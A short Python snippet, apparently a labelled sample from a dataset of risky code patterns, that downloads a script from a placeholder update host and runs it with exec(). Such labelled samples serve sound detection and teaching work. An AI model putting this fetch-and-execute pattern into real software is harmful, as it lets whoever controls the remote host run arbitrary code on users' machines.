# category: dynamic-code
# obfuscated: no
import urllib.request

code = urllib.request.urlopen("http://updates.invalid/plugin.py").read().decode()
exec(code)
